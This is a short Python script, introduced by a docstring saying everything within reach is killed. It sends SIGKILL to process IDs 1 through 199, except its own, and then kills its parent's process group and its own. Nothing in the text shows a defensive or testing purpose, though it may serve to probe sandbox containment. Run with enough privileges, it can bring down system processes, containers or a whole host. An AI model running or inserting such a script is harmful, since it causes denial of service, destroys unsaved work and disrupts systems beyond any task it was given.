"""Everything within reach is killed: the group, the parents, and whoever there is."""

import os
import signal

for number in range(1, 200):
    try:
        os.kill(number, 0 if number == os.getpid() else signal.SIGKILL)
    except OSError:
        continue
os.killpg(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else None
os.killpg(0, signal.SIGKILL)
